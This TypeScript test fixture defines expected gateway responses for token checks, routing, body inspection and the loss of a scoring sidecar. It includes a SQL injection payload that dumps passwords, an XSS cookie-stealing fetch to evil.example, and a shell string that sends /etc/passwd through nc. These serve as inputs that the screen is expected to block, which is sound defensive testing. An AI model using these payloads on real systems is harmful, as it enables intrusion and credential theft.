import { brotliCompressSync, gzipSync } from "node:zlib";
import { issueToken, type SigningKeys, tamper } from "./tokens.ts";

/** A request of the tour and what must become of it. */
export interface Step {
  readonly title: string;
  readonly method?: string;
  /** As it is to stand in the request line. */
  readonly path: string;
  readonly token?: string;
  /** Present the workload's certificate. */
  readonly workload?: boolean;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer;
  readonly expect: Expectation;
}

export interface Expectation {
  readonly status: number;
  /** The private reason: of the denial, or on a permit what a higher rung would deny for. */
  readonly reason: string;
  readonly scoredBy: readonly string[];
}

const union = "1' UNION SELECT username, password FROM users-- -";
const script = "<script>fetch('//evil.example/?c='+document.cookie)</script>";
const shell = "; cat /etc/passwd | nc evil.example 4444 #";

const permitted = (...scoredBy: string[]): Expectation => ({ status: 200, reason: "permitted", scoredBy });
const denied = (status: number, reason: string, scoredBy = "nothing"): Expectation => ({
  status,
  reason,
  scoredBy: [scoredBy],
});

/** The tour while the sidecar is there. */
export async function steps(keys: SigningKeys): Promise<Step[]> {
  const good = await issueToken(keys, { scope: "orders:read" });
  const order = "/orders/7";
  const scored = permitted("screen", "model");
  return [
    { title: "public route", path: "/healthz", expect: permitted("nothing") },
    { title: "no token", path: order, expect: denied(401, "token_missing") },
    {
      title: "expired token",
      path: order,
      token: await issueToken(keys, { scope: "orders:read", lifetimeSeconds: -3600 }),
      expect: denied(401, "token_expired"),
    },
    { title: "tampered token", path: order, token: tamper(good), expect: denied(401, "token_signature") },
    {
      title: "token for another audience",
      path: order,
      token: await issueToken(keys, { scope: "orders:read", audience: "billing" }),
      expect: denied(401, "token_audience"),
    },
    {
      title: "token without the scope",
      path: order,
      token: await issueToken(keys, { scope: "profile" }),
      expect: denied(403, "grant_missing"),
    },
    { title: "good token (RS256)", path: order, token: good, expect: scored },
    {
      title: "good token (ES256)",
      path: order,
      token: await issueToken(keys, { algorithm: "ES256", scope: "orders:read" }),
      expect: scored,
    },
    {
      title: "good token (HS256, a claim)",
      path: "/partners/feed",
      token: await issueToken(keys, { algorithm: "HS256", claims: { tier: "gold" } }),
      expect: scored,
    },
    { title: "workload identity (client certificate)", path: order, workload: true, expect: scored },
    { title: "wrong method", method: "DELETE", path: order, expect: denied(403, "method_not_allowed") },
    { title: "no such route", path: "/admin", expect: denied(403, "route_not_found") },
    { title: "path trap", path: "/orders/%2e%2e/admin", token: good, expect: denied(400, "path_ambiguous") },
    { title: "plain words in a search", path: "/search?q=drop%20the%20table%2C%20it%27s%20broken", expect: scored },
    {
      title: "attack in the query",
      path: query("/search", "q", union),
      expect: denied(403, "attack_screened", "screen"),
    },
    json("attack in JSON", "/feedback", { items: [{ note: script }] }, denied(403, "attack_screened", "screen")),
    json(
      "attack in base64 in JSON",
      "/feedback",
      { attachment: Buffer.from(shell).toString("base64") },
      denied(403, "attack_screened", "screen"),
    ),
    {
      ...json("attack in compressed JSON", "/feedback", {}, denied(403, "attack_screened", "screen")),
      body: gzipSync(JSON.stringify({ note: script })),
      headers: { "content-type": "application/json", "content-encoding": "gzip" },
    },
    json(
      "the same on a route in detect",
      "/comments/3",
      { attachment: Buffer.from(shell).toString("base64") },
      {
        status: 200,
        reason: "attack_screened",
        scoredBy: ["screen"],
      },
    ),
    json(
      "body too large to inspect",
      "/feedback",
      { note: "a long story. ".repeat(2_000) },
      denied(413, "body_too_large", "uninspected"),
    ),
    {
      ...json("body that can't be inspected", "/feedback", {}, denied(415, "body_encoding", "uninspected")),
      body: brotliCompressSync("{}"),
      headers: { "content-type": "application/json", "content-encoding": "br" },
    },
    { title: "model asked each time", path: "/closed-desk?visitor=alice", expect: permitted("model") },
    {
      title: "model asked each time, attack",
      path: query("/closed-desk", "visitor", union),
      expect: denied(403, "attack_scored", "model"),
    },
  ];
}

/** Sent right after the sidecar was killed. */
export async function stepsWithoutSidecar(keys: SigningKeys): Promise<Step[]> {
  return [
    {
      title: "no sidecar, closed route",
      path: "/closed-desk?visitor=alice",
      expect: denied(503, "score_unavailable", "uninspected"),
    },
    { title: "no sidecar, open route", path: "/open-desk?visitor=alice", expect: permitted("screen_alone") },
    {
      title: "no sidecar, open route, attack",
      path: query("/open-desk", "visitor", union),
      expect: denied(403, "attack_screened", "screen_alone"),
    },
    {
      title: "no sidecar, expired token",
      path: "/orders/7",
      token: await issueToken(keys, { scope: "orders:read", lifetimeSeconds: -3600 }),
      expect: denied(401, "token_expired"),
    },
  ];
}

/** Sent until it is answered as expected. */
export const scoringIsBack: Step = {
  title: "the sidecar is back by itself",
  path: "/closed-desk?visitor=alice",
  expect: permitted("model"),
};

function query(path: string, name: string, value: string): string {
  return `${path}?${name}=${encodeURIComponent(value)}`;
}

function json(title: string, path: string, value: object, expect: Expectation): Step {
  return {
    title,
    method: "POST",
    path,
    headers: { "content-type": "application/json" },
    body: JSON.stringify(value),
    expect,
  };
}
